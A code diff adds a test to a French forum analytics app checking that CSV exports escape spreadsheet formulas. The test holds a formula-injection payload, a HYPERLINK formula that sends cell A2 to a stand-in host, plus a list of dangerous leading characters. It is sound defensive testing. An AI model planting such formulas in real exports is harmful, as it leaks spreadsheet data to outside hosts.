@@ -19,7 +19,7 @@ from comcep.extensions import db
 from comcep.forum import services
 from comcep.members.models import Member
 from tests.analytics.conftest import Forum, MakeMember, q1_args, solved_forum, tag_forum, utc
-from tests.factories import category
+from tests.factories import category, make_topic
 
 TABLES = [
     "themes",
@@ -347,6 +347,23 @@ def test_the_semicolon_option_suits_french_excel(forum: Forum, comite_client: Fl
     assert response.data.startswith(b"\xef\xbb\xbf")
     assert text.splitlines()[0] == "theme;topics;topics_pct;messages;messages_pct"
     assert "Les échanges de pratiques;4;44,4;13;43,3" in text.splitlines()
+
+
+def test_a_csv_download_never_starts_a_cell_with_a_formula(members, client_for) -> None:
+    """Excel and LibreOffice run a cell starting with « = », « + », « - » or « @ »: a
+    mot-clé named so by staff would become a live link in the comité's spreadsheet."""
+    formula = '=HYPERLINK("https://exemple.invalid/?q="&A2;"Ouvrir le tableau complet")'
+    animation = client_for(members["animation"])
+    created = animation.post("/mots-cles/gestion", data={"action": "create", "name": formula})
+    assert created.status_code == 302
+    make_topic(members["pair"])
+
+    response = client_for(members["comite"]).get("/analyses/tags.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells  # listed, as text
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
 
 
 def test_an_unknown_table_is_a_404(comite_client: FlaskClient) -> None:
